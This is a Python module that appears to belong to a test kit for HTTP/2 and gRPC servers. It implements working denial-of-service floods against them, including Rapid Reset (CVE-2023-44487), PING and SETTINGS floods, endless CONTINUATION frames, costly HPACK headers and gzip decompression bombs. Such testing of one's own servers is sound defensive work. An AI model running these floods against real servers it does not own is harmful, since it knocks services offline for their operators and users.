"""Kinds that cause work without a use: the same frames again and again."""

import gzip
import itertools
from collections.abc import Iterable, Iterator
from dataclasses import replace
from typing import Final

from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hpack import Encoder

from testkit.deflate import empty_blocks

from .http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    HIGHEST_WINDOW,
    PING,
    RST_STREAM,
    WINDOW_UPDATE,
    call,
    frame,
    head_block,
    hostile,
    prefixed,
    settings,
)
from .target import Course, Target

_BURST: Final = 50  # frames in one write
# Of what a head may be, most; each byte on the wire is read bit by bit (RFC 7541, 5.2).
_LONG_VALUE: Final = "0" * 15_500
_LONG_WEIGHT: Final = 20  # in frames
_COSTLY_BYTES: Final = 256 * 1024  # of gzip: 20 ms
_STREAMS: Final = 100
_STREAM_IDS: Final = range(1, HIGHEST_WINDOW, 2)


async def _pour(target: Target, course: Course, frames: Iterable[bytes], *, weight: int = 1) -> None:
    async with hostile(target, course) as peer:
        rest = iter(frames)
        while burst := tuple(itertools.islice(rest, max(1, _BURST // weight))):
            await peer.send(*burst, weight=weight)
            course.established.set()


async def rapid_reset(target: Target, course: Course) -> None:
    """Opens streams and resets each at once (CVE-2023-44487)."""
    await _pour(target, course, _resets(target.path))


def _resets(path: str) -> Iterator[bytes]:
    head = head_block(path)
    code = ErrorCodes.CANCEL.to_bytes(4, "big")
    for stream_id in _STREAM_IDS:
        yield frame(HEADERS, stream_id, head, END_HEADERS)
        yield frame(RST_STREAM, stream_id, code)


async def resets_by_server(target: Target, course: Course) -> None:
    """Has the server reset streams by breaking a rule on each, in every way there is (CVE-2025-8671)."""
    await _pour(target, course, _misdeeds(target))


def _misdeeds(target: Target) -> Iterator[bytes]:
    head = head_block(target.path)
    short, long = (head_block(target.path, **{"content-length": length}) for length in ("1", "100000"))
    method = Encoder().encode([(":method", "POST", True)])  # a pseudo-header, which no trailer may be
    streams = iter(_STREAM_IDS)
    while True:
        yield from _with_head(next(streams), head, WINDOW_UPDATE, bytes(4))
        yield from _with_head(next(streams), head, WINDOW_UPDATE, HIGHEST_WINDOW.to_bytes(4, "big"))
        yield from _with_head(next(streams), short, DATA, b"xx")
        yield from _with_head(next(streams), long, DATA, b"x", END_STREAM)
        yield from _with_head(next(streams), head, HEADERS, b"", END_HEADERS)
        yield from _with_head(next(streams), head, HEADERS, method, END_HEADERS | END_STREAM)
        yield frame(HEADERS, next(streams), head_block(target.path, te="gzip"), END_HEADERS)
        answered = next(streams)
        yield call(answered, target)
        yield frame(DATA, answered, b"after the end")


def _with_head(stream_id: int, head: bytes, kind: int, payload: bytes, flags: int = 0) -> Iterator[bytes]:
    yield frame(HEADERS, stream_id, head, END_HEADERS)
    yield frame(kind, stream_id, payload, flags)


async def pings(target: Target, course: Course) -> None:
    """Asks for the answers to PINGs (CVE-2019-9512)."""
    await _pour(target, course, itertools.repeat(frame(PING, payload=b"12345678")))


async def changed_settings(target: Target, course: Course) -> None:
    """Asks for the answers to SETTINGS (CVE-2019-9515)."""
    sizes = itertools.cycle(range(4096))
    await _pour(target, course, (settings({SettingCodes.HEADER_TABLE_SIZE: size}) for size in sizes))


async def empty_data(target: Target, course: Course) -> None:
    """Sends a message in frames with nothing in them (CVE-2019-9518)."""
    head = frame(HEADERS, 1, head_block(target.path), END_HEADERS)
    await _pour(target, course, itertools.chain([head], itertools.repeat(frame(DATA, 1))))


async def continuations(target: Target, course: Course) -> None:
    """Sends a head that never ends (CVE-2024-28182 and its kin)."""
    block = frame(CONTINUATION, 1, head_block(target.path)[:8])
    await _pour(target, course, itertools.chain([frame(HEADERS, 1)], itertools.repeat(block)))


async def window_updates(target: Target, course: Course) -> None:
    """Opens the connection's window byte by byte, for answers that it never asks for."""
    await _pour(target, course, itertools.repeat(frame(WINDOW_UPDATE, payload=b"\0\0\0\1")))


async def unknown_frames(target: Target, course: Course) -> None:
    """Sends frames of an unknown type, which have to be ignored (RFC 9113, 4.1)."""
    await _pour(target, course, itertools.repeat(frame(0x60, payload=b"?")))


async def unknown_methods(target: Target, course: Course) -> None:
    """Calls unknown methods."""
    head = head_block("/no.Such/Method")
    await _pour(target, course, (frame(HEADERS, number, head, END_HEADERS | END_STREAM) for number in _STREAM_IDS))


async def large_header_blocks(target: Target, course: Course) -> None:
    """Calls unknown methods, with headers that are expensive to decode."""
    head = head_block("/no.Such/Method", x=_LONG_VALUE)
    heads = (frame(HEADERS, number, head, END_HEADERS | END_STREAM) for number in _STREAM_IDS)
    await _pour(target, course, heads, weight=_LONG_WEIGHT)


async def long_messages_announced(target: Target, course: Course) -> None:
    """Announces bodies of a length that has thousands of digits."""
    head = head_block(target.path, **{"content-length": "9" * 5000})
    heads = (frame(HEADERS, number, head, END_HEADERS) for number in _STREAM_IDS)
    await _pour(target, course, heads, weight=_LONG_WEIGHT)


async def gzip_bombs(target: Target, course: Course) -> None:
    """Sends messages that are small and unpack to more than a message may be."""
    await _send_compressed(target, course, gzip.compress(bytes(target.message_bytes + 1)))


async def gzip_of_nothing(target: Target, course: Course) -> None:
    """Sends messages that unpack to nothing, but slowly."""
    await _send_compressed(target, course, empty_blocks(min(_COSTLY_BYTES, target.message_bytes)))


async def gzip_of_empty_names(target: Target, course: Course) -> None:
    """Sends small messages to a streaming method that unpack to millions of empty strings."""
    message = gzip.compress(b"\x0a\0" * (target.message_bytes // 2))
    await _send_compressed(replace(target, path=target.streaming_path), course, message)


async def _send_compressed(target: Target, course: Course, message: bytes) -> None:
    head = head_block(target.path, **{"grpc-encoding": "gzip"})
    body = prefixed(message, compressed=True)
    async with hostile(target, course) as peer:
        for stream_id in _STREAM_IDS:
            await peer.send(frame(HEADERS, stream_id, head, END_HEADERS))
            await peer.send_body(stream_id, body)
            if stream_id not in course.ended:
                await peer.send(frame(DATA, stream_id, flags=END_STREAM))
            course.established.set()
            while stream_id - 2 * _STREAMS not in course.ended and stream_id > 2 * _STREAMS:
                await peer.stream_ended()


async def small_window_updates(target: Target, course: Course) -> None:
    """Holds streams whose windows are shut, and opens the first one's byte by byte, each time waking all of them."""
    announced = {SettingCodes.INITIAL_WINDOW_SIZE: 0}
    async with hostile(target, course, announced=announced) as peer:
        for last in _STREAM_IDS:
            await peer.call(last)
            course.established.set()
            first = last - 2 * _STREAMS
            if first in _STREAM_IDS:
                while first not in course.ended:
                    await peer.send(frame(WINDOW_UPDATE, first, b"\0\0\0\1"))
